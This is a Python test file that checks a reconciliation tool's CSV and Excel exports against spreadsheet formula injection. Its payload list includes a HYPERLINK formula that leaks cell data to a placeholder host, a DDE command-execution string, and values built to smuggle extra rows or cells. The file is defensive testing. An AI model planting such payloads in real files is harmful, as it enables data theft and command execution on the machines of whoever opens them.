"""The CSV and Excel exports hold no formula, whatever the names on either side say (CWE-1236).

Every text column of the sample's records (names, e-mails, phones, invoice numbers, on the WORK and
the QBO side) starts with one of :data:`PAYLOADS`; the exports are read back with ``csv`` and
openpyxl as a spreadsheet would see them. Amounts stay numbers: unprefixed decimal text in the
CSV, numeric cells in the workbook.
"""

from __future__ import annotations

import csv
import dataclasses
import os
import stat
from collections.abc import Iterator
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from qbo_toolkit.recon import CATEGORIES, ReconResult, reconcile, to_csv, to_excel
from qbo_toolkit.recon.cells import FORMULA_TRIGGERS, inert_frame, inert_text, is_formula_like, visible_controls
from qbo_toolkit.recon.render import summary_frame
from qbo_toolkit.recon.sample import SAMPLE_AS_OF, SAMPLE_DEFAULT_STATE, SAMPLE_INTEGRATION_DATE, sample_frames

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\x00=1",
    " =1+1",
)
#: Text after which a careless writer would start a new cell or row.
EMBEDDED = ("", "\r=1+1", "\r\n=1+1", "\n=1+1", ",=1+1", '",=1+1')
#: What a spreadsheet takes for the start of a formula (OWASP), checked on what is read back.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")
HOSTILE_COLUMNS = ("display_name", "email", "phone", "number", "doc_number")


def _hostile(frame: pd.DataFrame, payloads: tuple[str, ...], embedded: tuple[str, ...]) -> pd.DataFrame:
    frame = frame.copy()
    for column in HOSTILE_COLUMNS:
        if column in frame.columns:
            frame[column] = [f"{payloads[i % len(payloads)]} {value}{embedded[i % len(embedded)]}"
                             for i, value in enumerate(frame[column])]
    return frame


def _hostile_frames(frames: object, payloads: tuple[str, ...], embedded: tuple[str, ...]) -> object:
    changes = {f.name: _hostile(getattr(frames, f.name), payloads, embedded)
               for f in dataclasses.fields(frames)  # type: ignore[arg-type]
               if isinstance(getattr(frames, f.name), pd.DataFrame)}
    return dataclasses.replace(frames, **changes)  # type: ignore[type-var]


def hostile_result(payloads: tuple[str, ...] = PAYLOADS, embedded: tuple[str, ...] = EMBEDDED) -> ReconResult:
    work, qbo, links = sample_frames()
    return reconcile(_hostile_frames(work, payloads, embedded), _hostile_frames(qbo, payloads, embedded),  # type: ignore[arg-type]
                     links, as_of=SAMPLE_AS_OF, integration_date=SAMPLE_INTEGRATION_DATE,
                     default_state=SAMPLE_DEFAULT_STATE)


@pytest.fixture(scope="module")
def hostile() -> ReconResult:
    return hostile_result()


def _money_headers(result: ReconResult) -> dict[str, set[str]]:
    frames = {"aging": result.tables["aging"], "open_balances": result.tables["open_balances"], **result.frames}
    headers = {name: {c.removesuffix("_cents") for c in frame.columns if c.endswith("_cents")}
               for name, frame in frames.items()}
    headers["summary"] = set()
    return headers


def _csv_rows(path: Path) -> Iterator[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        yield from csv.DictReader(handle)


def test_every_text_column_of_the_result_holds_a_payload(hostile: ReconResult) -> None:
    """The fixture reaches the exports: without neutralising, these cells would be formulas."""
    seen = {payload for frame in hostile.frames.values() for column in frame.columns
            if frame[column].dtype == "str" for value in frame[column].dropna() for payload in PAYLOADS
            if value.startswith(payload)}
    assert seen == set(PAYLOADS)


def test_csv_export_holds_no_formula_and_amounts_stay_numbers(hostile: ReconResult, tmp_path: Path) -> None:
    money = _money_headers(hostile)
    prefixed = 0
    amounts = 0
    frames = {"summary": summary_frame(hostile), **hostile.tables, **hostile.frames}
    for path in to_csv(hostile, tmp_path / "csv"):
        rows = list(_csv_rows(path))
        assert len(rows) == len(frames[path.stem]), path.name  # no row smuggled in by a line break
        for row in rows:
            assert None not in row and None not in row.values(), (path.name, row)  # nor a cell by a comma
            for column, field in row.items():
                if column in money[path.stem]:
                    assert field == "" or Decimal(field) == Decimal(field).quantize(Decimal("0.01")), (path.name, field)
                    amounts += 1
                    continue
                try:
                    Decimal(field)  # a plain number (the summary's figures, ids, counts) is a number
                except InvalidOperation:
                    assert not field.startswith(TRIGGERS), (path.name, column, field)
                    assert "\x00" not in field
                    prefixed += field.startswith("'")
    assert prefixed >= 25 and amounts > 50
    summary = {row["name"]: row for row in _csv_rows(tmp_path / "csv" / "summary.csv")}
    assert summary["payment_amount"]["difference"] == "-5.00"  # a negative amount, not prefixed
    balances = list(_csv_rows(tmp_path / "csv" / "customer_balances.csv"))
    assert any(row["difference"].startswith("-") for row in balances)  # negative money as numbers
    names = {row["customer"] for row in _csv_rows(tmp_path / "csv" / "invoices_total.csv")}
    assert any(name.startswith("'=") for name in names), names  # shown with the quote, as typed


def test_excel_export_holds_no_formula_and_amounts_stay_numbers(hostile: ReconResult, tmp_path: Path) -> None:
    book = load_workbook(to_excel(hostile, tmp_path / "reconciliation.xlsx"))
    money = _money_headers(hostile)
    texts = 0
    numbers = 0
    for sheet in book.worksheets:
        header = [cell.value for cell in sheet[1]]
        for row in sheet.iter_rows(min_row=2):
            for column, cell in zip(header, row, strict=True):
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), (sheet.title, cell.coordinate, cell.value)
                    texts += cell.value.startswith("'")
                if column in money[sheet.title] and cell.value is not None:
                    assert isinstance(cell.value, int | float | Decimal), (sheet.title, column, cell.value)
                    assert cell.number_format == "#,##0.00"
                    numbers += 1
    assert texts >= 25 and numbers > 50
    negative = [cell.value for row in book["customer_balances"].iter_rows(min_row=2) for cell in row
                if isinstance(cell.value, int | float) and cell.value < 0]
    assert negative  # negative money is a number, not text
    # a NUL (which Excel cannot store) is shown as its symbol; the row is written all the same
    assert any(isinstance(cell.value, str) and cell.value.startswith("'␀=1 ")
               for sheet in book.worksheets for row in sheet.iter_rows(min_row=2) for cell in row)


def test_exports_are_private_whatever_the_umask(hostile: ReconResult, tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        written = to_csv(hostile, tmp_path / "out" / "csv")
        book = to_excel(hostile, tmp_path / "out" / "reconciliation.xlsx")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "out" / "csv").stat().st_mode) == 0o700
    for path in (*written, book):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name


def test_printable_formulas_alone_are_not_formulas_in_excel(tmp_path: Path) -> None:
    """The formulas of the issue, without the control characters Excel cannot store: every cell of
    every category sheet is a value, none a formula."""
    result = hostile_result(PAYLOADS[:5], ("",))
    book = load_workbook(to_excel(result, tmp_path / "r.xlsx"))
    assert book.sheetnames[3:] == [c.name for c in CATEGORIES]
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    quoted = [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith("'")]
    assert any(value.startswith("'=HYPERLINK(") for value in quoted) and any(v.startswith("'=cmd|") for v in quoted)


# --------------------------------------------------------------------------------------------
# The rules themselves
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*PAYLOADS, "=1", "+", "-", "@", "＝1+1", "＠SUM(A1)", "   -1+2"])
def test_formula_like_text_gets_a_quote(text: str) -> None:
    assert is_formula_like(text)
    assert inert_text(text) == "'" + visible_controls(text).replace("\r", "\n")


@pytest.mark.parametrize("text", ["", "Alpha Plumbing", "-12.50", "-3", "0", "12.5", "O'Brien", "a=b", "555-0101",
                                  "W-1001", "line one\nline two"])
def test_ordinary_text_and_plain_numbers_are_unchanged(text: str) -> None:
    assert not is_formula_like(text)
    assert inert_text(text) == text


def test_control_characters_are_made_visible() -> None:
    assert inert_text("Bob\x00's\x07 Shop\x7f") == "Bob␀'s␇ Shop␡"
    assert inert_text("tab\tand\nnewline") == "tab\tand\nnewline"
    assert inert_text("one\rtwo\r\nthree") == "one\ntwo\nthree"  # a bare CR would end a CSV row


def test_inert_frame_touches_only_text() -> None:
    frame = pd.DataFrame({"name": pd.Series(["=1", None, "ok"], dtype="str"),
                          "total_cents": pd.Series([-500, 0, 1], dtype="int64")})
    out = inert_frame(frame)
    assert out["name"].tolist()[0] == "'=1" and out["name"].tolist()[2] == "ok" and pd.isna(out["name"][1])
    assert out["total_cents"].tolist() == [-500, 0, 1] and out["total_cents"].dtype == "int64"
    assert set(FORMULA_TRIGGERS) >= set(TRIGGERS)
